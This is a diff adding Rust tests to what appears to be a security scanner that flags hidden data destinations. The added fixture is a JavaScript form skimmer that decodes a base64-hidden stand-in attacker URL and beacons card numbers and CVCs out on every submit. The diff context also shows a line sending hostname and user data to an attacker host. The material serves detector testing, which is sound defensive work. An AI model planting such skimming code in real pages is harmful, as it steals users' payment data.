@@ -220,3 +220,27 @@ https.get('https://c.attacker.example/?h=' + os.hostname() + '&u=' + os.userInfo
     );
     assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
 }
+
+// Where data goes (DSCA806): an address hidden in an encoded string.
+
+#[test]
+fn a_beacon_to_an_address_hidden_in_base64_names_a_destination() {
+    // "https://collect.attacker.example/c" in base64.
+    let code = r#"const u = atob('aHR0cHM6Ly9jb2xsZWN0LmF0dGFja2VyLmV4YW1wbGUvYw==');
+document.addEventListener('submit', (e) => {
+  const d = new FormData(e.target);
+  navigator.sendBeacon(u, JSON.stringify({ n: d.get('cardnumber'), c: d.get('cvc') }));
+}, true);
+"#;
+    let fixture = with_main(&[("index.js", code)]);
+    assert_eq!(strongest(&fixture, "DSCA806"), Some(Severity::Medium));
+}
+
+#[test]
+fn a_beacon_to_a_plain_analytics_address_names_no_destination() {
+    let code = r#"const u = 'https://analytics.vendor.example/collect';
+window.addEventListener('pagehide', () => navigator.sendBeacon(u, JSON.stringify({ p: location.pathname })));
+"#;
+    let fixture = with_main(&[("index.js", code)]);
+    assert_eq!(strongest(&fixture, "DSCA806"), None);
+}
